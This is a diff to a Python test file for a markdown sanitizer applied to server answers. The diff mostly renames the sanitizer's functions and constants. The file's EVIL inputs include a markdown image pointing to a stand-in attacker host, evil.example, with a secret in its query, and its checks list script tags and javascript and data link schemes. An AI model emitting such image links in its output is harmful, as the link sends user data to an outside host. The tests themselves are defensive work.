@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from server.api.answers.sanitize import MOST_HELD, SafeText, safe_text
+from server.api.answers.sanitize import MAX_LOOKAHEAD, TextSanitizer, sanitize_text
 
 EVIL = [
     "![x](https://evil.example/?d=secret)",
@@ -73,7 +73,7 @@ def _shown(text: str) -> str:
 @pytest.mark.parametrize("text", EVIL)
 def test_nothing_is_fetched_and_no_link_leads_elsewhere(text: str) -> None:
     """As CommonMark with HTML shows it; the words themselves are all there."""
-    shown = _shown(safe_text(text)).lower()
+    shown = _shown(sanitize_text(text)).lower()
 
     assert not [tag for tag in ("<img", "<image", "<div", "<style", "<video", "<iframe", "<script") if tag in shown]
     assert 'href="' not in shown or 'href="http' in shown
@@ -82,19 +82,19 @@ def test_nothing_is_fetched_and_no_link_leads_elsewhere(text: str) -> None:
         for bad in ('href="javascript', 'href="data', 'href="file', 'href="ftp', 'href="vb', 'href="//')
         if bad in shown
     ]
-    assert safe_text(text).replace(" ", "") == text.replace(" ", "")
+    assert sanitize_text(text).replace(" ", "") == text.replace(" ", "")
 
 
 @pytest.mark.parametrize("text", GOOD)
 def test_ordinary_text_stays_as_it_is(text: str) -> None:
     """Citations, comparisons, web links, formatting without attributes."""
-    assert safe_text(text) == text
+    assert sanitize_text(text) == text
 
 
 @given(_PIECES)
 def test_shown_text_has_no_image_and_no_foreign_link(text: str) -> None:
     """Whatever is written. A second pass has nothing more to do."""
-    tokens = MarkdownIt("commonmark", {"html": True, "linkify": False}).parse(safe_text(text))
+    tokens = MarkdownIt("commonmark", {"html": True, "linkify": False}).parse(sanitize_text(text))
     inline = [child for token in tokens for child in token.children or ()]
 
     assert not [child for child in inline if child.type == "image"]
@@ -102,24 +102,24 @@ def test_shown_text_has_no_image_and_no_foreign_link(text: str) -> None:
         str(child.attrs["href"]).split(":")[0].lower() for child in inline if ":" in str(child.attrs.get("href"))
     }
     assert all(scheme in {"http", "https"} or set(scheme) & set("/?#%") for scheme in schemes)
-    assert safe_text(safe_text(text)) == safe_text(text)
+    assert sanitize_text(sanitize_text(text)) == sanitize_text(text)
 
 
 @given(_PIECES, st.lists(st.integers(0, 200)))
 def test_how_it_is_cut_makes_no_difference_and_little_is_held(text: str, cuts: list[int]) -> None:
     """A stream gives what the whole gives, never more than ``MOST_HELD`` characters late."""
     places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
-    stream, given_so_far = SafeText(), ""
+    stream, given_so_far = TextSanitizer(), ""
     for start, end in pairwise(places):
         given_so_far += stream.feed(text[start:end])
-        assert len(given_so_far) >= end - MOST_HELD
-    assert given_so_far + stream.flush() == safe_text(text)
+        assert len(given_so_far) >= end - MAX_LOOKAHEAD
+    assert given_so_far + stream.flush() == sanitize_text(text)
 
 
 @given(_PIECES)
 def test_places_move_with_the_text(text: str) -> None:
     """Each character is where ``place`` says."""
-    stream = SafeText()
+    stream = TextSanitizer()
     shown = stream.feed(text) + stream.flush()
 
     assert [shown[stream.place(i)] for i in range(len(text))] == list(text)
@@ -130,7 +130,7 @@ def test_places_move_with_the_text(text: str) -> None:
 )
 def test_a_construct_over_a_flush_is_parted(first: str, second: str) -> None:
     """What was shown cannot be taken back, so the space comes before what follows."""
-    stream = SafeText()
+    stream = TextSanitizer()
     shown = stream.feed(first) + stream.flush() + stream.feed(second) + stream.flush()
 
     assert shown == f"{first} {second}"
